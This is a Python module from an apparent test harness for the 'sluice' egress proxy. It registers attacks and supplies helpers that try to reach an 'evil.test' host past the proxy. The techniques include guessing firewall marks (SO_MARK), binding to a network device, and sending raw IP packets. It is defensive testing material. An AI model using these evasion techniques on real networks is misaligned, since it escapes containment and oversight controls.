# SPDX-License-Identifier: MIT
"""What an attack knows and has to hand; and the list of attacks."""
import contextlib
import os
import select
import socket
import struct
import time
from dataclasses import dataclass, field

from agent import APPLICATION, PROXY_USER, RAW  # noqa: F401 (APPLICATION: for those that list attacks)
from packet import FAMILY, ICMP

SO_MARK, SO_BINDTODEVICE = 36, 25
IP_NODEFRAG, IPPROTO_RAW = 22, 255
ATTACKS = {}  # name to Attack
HOLES = {}  # the same: those that no rule can close


@dataclass
class Attack:
    name: str
    function: object
    identities: tuple
    families: tuple
    control: bool  # whether it gets out of a pod without rules
    breaks: bool  # whether it may break connections of the proxy's


def attack(name, *identities, families=(4, 6), control=True, breaks=False, among=ATTACKS):
    """Marks a function of a Field as an attack, tried as each of the identities."""

    def mark(function):
        assert name not in ATTACKS and name not in HOLES, name
        among[name] = Attack(name, function, identities or (RAW, PROXY_USER), families, control, breaks)
        return function

    return mark


@dataclass
class Field:
    """One attack's surroundings. Addresses are of its family; ports to send from come from port()."""

    family: int
    served: bool  # a proxy is there, so that what is captured is answered
    bare: bool  # no rules are there: whatever is tried succeeds
    tag: bytes
    me: str
    mine: list  # every local address, loopback too
    gateway: str
    gateway_link: str  # its link-local address
    mac: bytes
    gateway_mac: bytes
    evil: str
    origin: str
    raw: str
    nameserver: str
    marks: list
    proxy: int = 0  # its process
    flow: tuple = ()  # (source port, sequence number, acknowledgement) of one of its flows to raw:7000
    dns_port: int = 0  # that it asked the name server from
    first_port: int = 40000
    used: int = field(default=0)

    def port(self):
        self.used += 1
        return self.first_port + self.used % 40

    @property
    def patience(self):
        """Seconds to wait for what may never come."""
        return 3.0 if self.served else 0.2 if self.bare else 0.1

    def socket(self, kind=socket.SOCK_STREAM, protocol=0, options=()):
        sock = socket.socket(FAMILY[self.family], kind, protocol)
        for level, option, value in options:
            sock.setsockopt(level, option, value)
        sock.settimeout(self.patience)
        return sock

    def bind(self, sock, address=None):
        """To a port that only attacks use."""
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((address or ("::" if self.family == 6 else "0.0.0.0"), self.port()))

    @property
    def request(self):
        return b"GET / HTTP/1.1\r\nHost: evil.test\r\nX-Tag: " + self.tag + b"\r\nConnection: close\r\n\r\n"

    def talk(self, port, address=None, options=(), protocol=0):
        """A connection and a request, as far as it goes."""
        answer = b""
        with self.socket(protocol=protocol, options=options) as sock, trying():
            self.bind(sock)
            sock.connect((address or self.evil, port))
            sock.sendall(self.request)
            if port == 53:  # a name server would wait for the rest
                sock.shutdown(socket.SHUT_WR)
            while more := sock.recv(1 << 16):
                answer += more
        self.check(answer, port)

    def check(self, answer, what):
        assert self.bare or b" 200 " not in answer[:20], f"{what}: the request was served: {answer[:80]!r}"

    def connect_all(self, targets):
        """Yields the socket and address of each connection that comes about. targets: see talk_all()."""
        waiting = {}
        for where, options, *more in targets:
            with trying():
                sock = self.socket(*more, options=options)
                waiting[sock] = where
                self.bind(sock)
                sock.setblocking(False)
                sock.connect_ex(where)
        end = time.monotonic() + (0.3 if self.served else 0.1)
        while waiting and time.monotonic() < end:
            for sock in select.select([], list(waiting), [], max(end - time.monotonic(), 0))[1]:
                where = waiting.pop(sock)
                with sock, trying():
                    sock.settimeout(self.patience)
                    yield sock, where

    def talk_all(self, targets):
        """Many at once, for what may never be answered: (sockaddr, options), with what may follow for socket()."""
        for sock, where in self.connect_all(targets):
            with trying():
                sock.sendall(self.request)
                self.check(sock.recv(1 << 16), where)

    def send(self, port, address=None, options=(), protocol=0, data=None):
        """A datagram, three times: the second and the third meet the first's ICMP error."""
        with self.socket(socket.SOCK_DGRAM, protocol, options) as sock, trying():
            self.bind(sock)
            for _ in range(3):
                with trying():
                    sock.sendto(data or self.tag, (address or self.evil, port))

    def send_raw(self, packet, dst=None, options=()):
        """A packet with its own IP header."""
        with self.socket(socket.SOCK_RAW, IPPROTO_RAW, options) as sock, trying():
            sock.sendto(packet, (dst or self.evil, 0))

    def send_protocol(self, protocol, body, dst=None, options=()):
        """The same with the kernel's IP header."""
        with self.socket(socket.SOCK_RAW, protocol, options) as sock, trying():
            sock.sendto(body, (dst or self.evil, 0))

    def ping_socket(self):
        return self.socket(socket.SOCK_DGRAM, ICMP[self.family])


def marked(mark):
    return (socket.SOL_SOCKET, SO_MARK, struct.pack("I", mark & 0xFFFFFFFF))


BOUND = (socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0")


@contextlib.contextmanager
def trying():
    """That the kernel refuses is as good as silence."""
    with contextlib.suppress(OSError):
        yield


def guesses():
    """Marks that somebody may try who knows sluice, or another proxy."""
    fixed = [1, 0x539, 0xFFFFFFFF, 0x736C7501, 0x736C7502]
    return fixed + [int.from_bytes(os.urandom(4), "little") for _ in range(8)]
